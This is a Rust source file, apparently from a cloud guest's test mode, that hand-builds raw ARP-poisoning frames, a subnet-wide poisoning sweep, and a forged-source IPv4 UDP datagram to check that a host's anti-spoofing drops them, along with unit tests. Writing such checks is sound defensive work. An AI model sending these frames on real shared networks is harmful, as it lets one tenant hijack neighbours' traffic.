//! The frames of the `nubis.spoof=<addr>` test mode: what a hostile guest
//! would send to take over a neighbour's address on a shared bridge. Built
//! by hand (smoltcp would refuse to send them) and sent raw by the network
//! loop; a host that enforces per-port anti-spoofing drops all three.

use alloc::vec::Vec;

/// The forged Ethernet source of [`forged_mac_arp`]: locally administered,
/// never handed to an instance (Nubis uses `02:4e:42:...`).
pub const FORGED_MAC: [u8; 6] = [0x02, 0x66, 0x66, 0x66, 0x66, 0x66];
const BROADCAST: [u8; 6] = [0xff; 6];

fn ethernet(dst: [u8; 6], src: [u8; 6], ethertype: u16, payload: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(14 + payload.len().max(46));
    f.extend_from_slice(&dst);
    f.extend_from_slice(&src);
    f.extend_from_slice(&ethertype.to_be_bytes());
    f.extend_from_slice(payload);
    // Minimum frame (without FCS): 60 bytes.
    f.resize(f.len().max(60), 0);
    f
}

/// An ARP packet (Ethernet/IPv4), `op` 1 = request, 2 = reply.
fn arp(op: u16, sha: [u8; 6], spa: [u8; 4], tha: [u8; 6], tpa: [u8; 4]) -> [u8; 28] {
    let mut a = [0u8; 28];
    a[0..2].copy_from_slice(&1u16.to_be_bytes()); // Ethernet
    a[2..4].copy_from_slice(&0x0800u16.to_be_bytes()); // IPv4
    a[4] = 6;
    a[5] = 4;
    a[6..8].copy_from_slice(&op.to_be_bytes());
    a[8..14].copy_from_slice(&sha);
    a[14..18].copy_from_slice(&spa);
    a[18..24].copy_from_slice(&tha);
    a[24..28].copy_from_slice(&tpa);
    a
}

/// A gratuitous ARP (request for `ip` from `ip`) with `mac` as the Ethernet
/// source and sender hardware address.
fn gratuitous(mac: [u8; 6], ip: [u8; 4]) -> Vec<u8> {
    ethernet(BROADCAST, mac, 0x0806, &arp(1, mac, ip, [0; 6], ip))
}

/// 1. A frame with a forged source MAC: a gratuitous ARP for our own
///    address from [`FORGED_MAC`].
pub fn forged_mac_arp(own_ip: [u8; 4]) -> Vec<u8> {
    gratuitous(FORGED_MAC, own_ip)
}

/// 2. A gratuitous ARP from our own MAC claiming `claim` (a neighbour's
///    address): without anti-spoofing, the host and the neighbours would
///    send the neighbour's traffic to us.
pub fn gratuitous_claim(own_mac: [u8; 6], claim: [u8; 4]) -> Vec<u8> {
    gratuitous(own_mac, claim)
}

/// 2b. An ARP request from our own MAC claiming `claim`, asked of
///     `target`: a neighbour that (like smoltcp) only learns from ARP
///     addressed to it then sends `claim`'s traffic to us. Sent to every
///     address of the subnet, it poisons every neighbour (see [`sweep`]).
pub fn arp_claim_to(own_mac: [u8; 6], claim: [u8; 4], target: [u8; 4]) -> Vec<u8> {
    ethernet(
        BROADCAST,
        own_mac,
        0x0806,
        &arp(1, own_mac, claim, [0; 6], target),
    )
}

/// An ordinary ARP request for `target` from `own_mac`/`own_ip`. The probe
/// mode resolves its next hops with it: smoltcp sends at most one ARP
/// request a second for the whole interface, so one unanswered neighbour
/// would delay every other probe; its replies fill smoltcp's cache all the same.
pub fn arp_request(own_mac: [u8; 6], own_ip: [u8; 4], target: [u8; 4]) -> Vec<u8> {
    arp_claim_to(own_mac, own_ip, target)
}

/// The host addresses of `ip`/`prefix` other than `ip` and `claim`, at
/// most `max` of them (the targets of [`arp_claim_to`]).
pub fn sweep(ip: [u8; 4], prefix: u8, claim: [u8; 4], max: usize) -> Vec<[u8; 4]> {
    if !(1..=30).contains(&prefix) {
        return Vec::new();
    }
    let mask = u32::MAX << (32 - u32::from(prefix));
    let net = u32::from_be_bytes(ip) & mask;
    let broadcast = net | !mask;
    (net + 1..broadcast)
        .map(u32::to_be_bytes)
        .filter(|a| *a != ip && *a != claim)
        .take(max)
        .collect()
}

/// 3. An IPv4 UDP datagram (port 9, discard) from our own MAC with the
///    forged source address `claim`, to `dst` (broadcast MAC).
pub fn forged_ip_udp(own_mac: [u8; 6], claim: [u8; 4], dst: [u8; 4]) -> Vec<u8> {
    let body = b"NUBIS-SPOOF";
    let udp_len = 8 + body.len();
    let total = 20 + udp_len;
    let mut ip = Vec::with_capacity(total);
    ip.extend_from_slice(&[0x45, 0]);
    ip.extend_from_slice(&(total as u16).to_be_bytes());
    ip.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]);
    ip.extend_from_slice(&claim);
    ip.extend_from_slice(&dst);
    let sum = checksum(&ip[..20]);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    ip.extend_from_slice(&9u16.to_be_bytes());
    ip.extend_from_slice(&9u16.to_be_bytes());
    ip.extend_from_slice(&(udp_len as u16).to_be_bytes());
    ip.extend_from_slice(&[0, 0]); // no UDP checksum (allowed over IPv4)
    ip.extend_from_slice(body);
    ethernet(BROADCAST, own_mac, 0x0800, &ip)
}

/// The Internet checksum of `data` (even length).
fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = 0;
    for pair in data.chunks(2) {
        let word = u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]);
        sum += u32::from(word);
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    const MAC: [u8; 6] = [0x02, 0x4e, 0x42, 1, 2, 3];

    #[test]
    fn forged_mac_frame_has_the_forged_source_everywhere() {
        let f = forged_mac_arp([10, 0, 0, 5]);
        assert_eq!(f.len(), 60);
        assert_eq!(&f[0..6], &BROADCAST);
        assert_eq!(&f[6..12], &FORGED_MAC);
        assert_eq!(&f[12..14], &[0x08, 0x06]);
        assert_eq!(&f[22..28], &FORGED_MAC); // sender hardware address
        assert_eq!(&f[28..32], &[10, 0, 0, 5]); // sender protocol address
    }

    #[test]
    fn claim_uses_own_mac_and_the_neighbours_address() {
        let f = gratuitous_claim(MAC, [10, 0, 0, 9]);
        assert_eq!(&f[6..12], &MAC);
        assert_eq!(&f[20..22], &[0, 1]); // request
        assert_eq!(&f[22..28], &MAC);
        assert_eq!(&f[28..32], &[10, 0, 0, 9]);
        assert_eq!(&f[38..42], &[10, 0, 0, 9]); // target = sender: gratuitous
    }

    #[test]
    fn arp_request_asks_for_the_target_from_our_own_address() {
        let f = arp_request(MAC, [10, 0, 0, 3], [10, 0, 0, 1]);
        assert_eq!(&f[0..6], &BROADCAST);
        assert_eq!(&f[6..12], &MAC);
        assert_eq!(&f[20..22], &[0, 1]); // request
        assert_eq!(&f[22..28], &MAC);
        assert_eq!(&f[28..32], &[10, 0, 0, 3]);
        assert_eq!(&f[38..42], &[10, 0, 0, 1]);
    }

    #[test]
    fn claims_are_asked_of_every_neighbour() {
        let f = arp_claim_to(MAC, [10, 0, 0, 1], [10, 0, 0, 7]);
        assert_eq!(&f[22..28], &MAC);
        assert_eq!(&f[28..32], &[10, 0, 0, 1]);
        assert_eq!(&f[38..42], &[10, 0, 0, 7]);
        let all = sweep([10, 0, 0, 5], 24, [10, 0, 0, 1], 1024);
        assert_eq!(all.len(), 252);
        assert_eq!(all[0], [10, 0, 0, 2]);
        assert!(!all.contains(&[10, 0, 0, 5]) && !all.contains(&[10, 0, 0, 255]));
        assert_eq!(sweep([10, 0, 0, 5], 16, [10, 0, 0, 1], 100).len(), 100);
        assert!(sweep([10, 0, 0, 5], 31, [10, 0, 0, 1], 100).is_empty());
    }

    #[test]
    fn forged_ip_datagram_is_well_formed() {
        let f = forged_ip_udp(MAC, [10, 0, 0, 9], [255, 255, 255, 255]);
        assert_eq!(&f[12..14], &[0x08, 0x00]);
        let ip = &f[14..];
        assert_eq!(ip[0], 0x45);
        assert_eq!(&ip[12..16], &[10, 0, 0, 9]);
        assert_eq!(&ip[16..20], &[255, 255, 255, 255]);
        // A correct header sums to zero.
        assert_eq!(checksum(&ip[..20]), 0);
        assert_eq!(u16::from_be_bytes([ip[2], ip[3]]), 20 + 8 + 11);
        assert_eq!(&ip[28..39], b"NUBIS-SPOOF");
    }
}
